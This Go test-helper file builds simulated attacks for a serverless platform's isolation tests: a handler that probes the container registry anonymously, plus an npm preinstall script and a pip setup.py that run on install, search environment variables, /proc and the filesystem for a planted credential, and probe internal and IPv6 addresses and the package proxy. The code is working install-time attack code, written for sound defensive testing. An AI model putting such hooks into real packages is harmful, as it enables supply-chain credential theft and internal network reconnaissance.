package testenv

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
)

// RegistryAttack is a python handler that tries the platform's registry as an attacker inside a
// function would, anonymously: /fn/…?reg=HOST:PORT&victim=NS/FN. It answers each attempt's HTTP
// status, or "unreachable" when no answer came within 2 s (a network that drops it).
const RegistryAttack = `import urllib.request, urllib.error
def try_(method, url):
    try:
        data = b'x' if method in ('POST', 'PUT') else None
        return urllib.request.urlopen(urllib.request.Request(url, method=method, data=data), timeout=2).status
    except urllib.error.HTTPError as e:
        return e.code
    except Exception:
        return 'unreachable'
def handle(event):
    reg, victim = event['query']['reg'][0], event['query']['victim'][0]
    base = 'http://' + reg
    return {'catalog': try_('GET', base + '/v2/_catalog'),
            'tags': try_('GET', base + '/v2/' + victim + '/tags/list'),
            'upload': try_('POST', base + '/v2/' + victim + '/blobs/uploads/'),
            'deps_upload': try_('POST', base + '/v2/sless/deps/' + 'a' * 64 + '/blobs/uploads/'),
            'manifest_put': try_('PUT', base + '/v2/' + victim + '/manifests/latest'),
            'delete': try_('DELETE', base + '/v2/' + victim + '/manifests/latest'),
            'token': try_('GET', base + '/token?service=sless-registry&scope=repository:' + victim + ':pull,push')}
`

// CheckRegistryAttack fails t unless every attempt RegistryAttack reported in body was refused
// (401) or never arrived.
func CheckRegistryAttack(t testing.TB, body string) {
	t.Helper()
	var got map[string]any
	if err := json.Unmarshal([]byte(body), &got); err != nil || len(got) != 7 {
		t.Fatalf("attack results: %v %s", err, body)
	}
	for k, v := range got {
		if v != float64(401) && v != "unreachable" {
			t.Errorf("%s from inside a function: %v, want 401 or unreachable", k, v)
		}
	}
}

// depsAttack runs in an npm preinstall script (a tenant-scoped install, so scripts run): it probes
// what it is given, asks the index proxy (HTTP_PROXY) for a URL the proxy should serve and one it
// should refuse, looks for the index credential everywhere it could read (env, every process's
// argv and environment, files), prints one ATTACK line and fails the install so the result shows
// in the Function's status.
const depsAttack = `
const http = require('http'), net = require('net'), fs = require('fs'), path = require('path');
const t = require('./package.json').targets;
const probe = (url) => new Promise((res) => {
  const req = http.get(url, { timeout: 1500 }, (r) => { r.resume(); res(r.statusCode); });
  req.on('timeout', () => { req.destroy(); res('unreachable'); });
  req.on('error', () => res('unreachable'));
});
const viaProxy = (url, method) => new Promise((res) => {
  const p = new URL(process.env.HTTP_PROXY);
  const req = http.request({ host: p.hostname, port: p.port, path: url, method: method || 'GET', timeout: 1500 }, (r) => { r.resume(); res(r.statusCode); });
  req.on('timeout', () => { req.destroy(); res('unreachable'); });
  req.on('error', () => res('unreachable'));
  req.end(method === 'PUT' || method === 'POST' ? '{"name":"attack","versions":{}}' : undefined);
});
// An IPv6 host:port (a link-local one with its zone, fe80::1%eth0): what it sent, or unreachable.
const probe6 = (hostPort) => new Promise((res) => {
  const i = hostPort.lastIndexOf(':');
  const s = net.connect({ host: hostPort.slice(0, i), port: Number(hostPort.slice(i + 1)), family: 6, timeout: 1500 });
  let got = '';
  s.on('data', (d) => { got += d; });
  s.on('connect', () => setTimeout(() => { s.destroy(); res('reached: ' + got); }, 300));
  s.on('timeout', () => { s.destroy(); res('unreachable'); });
  s.on('error', (e) => res('unreachable: ' + e.code));
});
const leaks = [];
const secret = t.secret.join(''); // in halves: package.json itself must not hold it
const look = (where, s) => { if (String(s).includes(secret)) leaks.push(where); };
look('env', JSON.stringify(process.env));
for (const pid of fs.readdirSync('/proc').filter((d) => /^\d+$/.test(d))) {
  for (const f of ['cmdline', 'environ']) { try { look(pid + '/' + f, fs.readFileSync('/proc/' + pid + '/' + f)); } catch (e) {} }
}
const walk = (d, depth) => { let es = []; try { es = fs.readdirSync(d, { withFileTypes: true }); } catch (e) { return; }
  for (const e of es) { const p = path.join(d, e.name);
    if (e.isDirectory() && depth < 3 && !['proc', 'sys', 'dev', 'usr', 'lib', 'bin', 'sbin', 'node_modules'].includes(e.name)) walk(p, depth + 1);
    else if (e.isFile()) { try { look(p, fs.readFileSync(p)); } catch (e) {} } } };
walk('/', 0);
(async () => {
  const out = { leaks };
  const keys = Object.keys(t.probe);
  (await Promise.all(keys.map((k) => probe(t.probe[k])))).forEach((v, i) => { out[keys[i]] = v; });
  out.proxy_registry = await viaProxy(t.registry);
  out.proxy_other = await viaProxy(t.other);
  for (const m of ['PUT', 'POST', 'DELETE', 'TRACE']) out['proxy_' + m.toLowerCase()] = await viaProxy(t.registry, m);
  const v6 = Object.keys(t.v6 || {});
  (await Promise.all(v6.map((k) => probe6(t.v6[k])))).forEach((v, i) => { out['v6_' + v6[i]] = v; });
  out.if_inet6 = fs.readFileSync('/proc/net/if_inet6', 'utf8');
  console.log('ATTACK ' + JSON.stringify(out));
  process.exit(1);
})();
`

// DepsAttackPackage is a package.json whose preinstall script is the dependency-install attack:
// probes (name → URL) must all be unreachable, v6 (name → "addr%zone:port") IPv6 services
// likewise (results v6_NAME), registry is a URL the index proxy serves (and must refuse to PUT,
// POST, DELETE or TRACE: results proxy_put…), other one it refuses, and secret the index
// credential the installer must not find (it is stored in halves: package.json itself must not
// hold it). if_inet6 is the installer's /proc/net/if_inet6.
func DepsAttackPackage(probes, v6 map[string]string, secret, registry, other string) string {
	b, _ := json.Marshal(map[string]any{
		"name": "attack", "version": "1.0.0",
		"scripts": map[string]string{"preinstall": "node -e \"eval(require('./package.json').attack)\""},
		"attack":  depsAttack,
		"targets": map[string]any{"probe": probes, "v6": v6, "secret": []string{secret[:len(secret)/2], secret[len(secret)/2:]}, "registry": registry, "other": other},
	})
	return string(b)
}

// DepsAttackResult reads the ATTACK line from a failed install's message.
func DepsAttackResult(message string) (map[string]any, error) {
	_, line, ok := strings.Cut(message, "ATTACK ")
	if !ok {
		return nil, fmt.Errorf("no ATTACK line in %q", message)
	}
	line, _, _ = strings.Cut(line, "\n")
	var got map[string]any
	if err := json.Unmarshal([]byte(line), &got); err != nil {
		return nil, fmt.Errorf("%v: %s", err, line)
	}
	return got, nil
}

// pipAttack is setup.py of an sdist whose pyproject.toml names it as the in-tree build backend
// (PEP 517, no build requirements: nothing to fetch from an index): pip imports it to build the
// package, so it runs during the install as any setup.py does. It does what depsAttack does, in
// python, and fails the build.
const pipAttack = `import concurrent.futures, json, os, sys, urllib.error, urllib.request
here = os.path.dirname(os.path.abspath(__file__))
t = json.load(open(os.path.join(here, 'targets.json')))
secret = ''.join(t['secret']).encode()
leaks = []
def look(where, data):
    if secret in data:
        leaks.append(where)
look('env', json.dumps(dict(os.environ)).encode())
for pid in os.listdir('/proc'):
    if pid.isdigit():
        for f in ('cmdline', 'environ'):
            try:
                look(pid + '/' + f, open('/proc/%s/%s' % (pid, f), 'rb').read())
            except Exception:
                pass
skip = {'proc', 'sys', 'dev', 'usr', 'lib', 'bin', 'sbin', 'node_modules'}
def walk(d, depth):
    try:
        entries = list(os.scandir(d))
    except Exception:
        return
    for e in entries:
        try:
            if e.is_dir(follow_symlinks=False):
                if depth < 3 and e.name not in skip:
                    walk(e.path, depth + 1)
            elif e.is_file(follow_symlinks=False):
                with open(e.path, 'rb') as f:
                    look(e.path, f.read(1 << 20))
        except Exception:
            pass
walk('/', 0)
direct = urllib.request.build_opener(urllib.request.ProxyHandler({}))
via_proxy = urllib.request.build_opener()
def probe(opener, url):
    try:
        return opener.open(url, timeout=1.5).status
    except urllib.error.HTTPError as e:
        return e.code
    except Exception:
        return 'unreachable'
out = {'leaks': leaks}
keys = list(t['probe'])
with concurrent.futures.ThreadPoolExecutor(len(keys)) as ex:
    for k, v in zip(keys, ex.map(lambda k: probe(direct, t['probe'][k]), keys)):
        out[k] = v
out['proxy_registry'] = probe(via_proxy, t['registry'])
out['proxy_other'] = probe(via_proxy, t['other'])
print('ATTACK ' + json.dumps(out), file=sys.stderr, flush=True)
raise SystemExit(1)
`

// PipAttackSdist is the sdist (file name, .tar.gz bytes) of package evil 1.0 whose setup.py is the
// dependency-install attack (arguments as DepsAttackPackage's).
func PipAttackSdist(probes map[string]string, secret, registry, other string) (string, []byte) {
	targets, _ := json.Marshal(map[string]any{"probe": probes, "secret": []string{secret[:len(secret)/2], secret[len(secret)/2:]},
		"registry": registry, "other": other})
	files := map[string]string{
		"evil-1.0/pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = \"setup\"\nbackend-path = [\".\"]\n",
		"evil-1.0/setup.py":       pipAttack,
		"evil-1.0/targets.json":   string(targets),
		"evil-1.0/PKG-INFO":       "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
	}
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	for _, name := range []string{"evil-1.0/PKG-INFO", "evil-1.0/pyproject.toml", "evil-1.0/setup.py", "evil-1.0/targets.json"} {
		tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(files[name])), Typeflag: tar.TypeReg})
		tw.Write([]byte(files[name]))
	}
	tw.Close()
	gz.Close()
	return "evil-1.0.tar.gz", buf.Bytes()
}
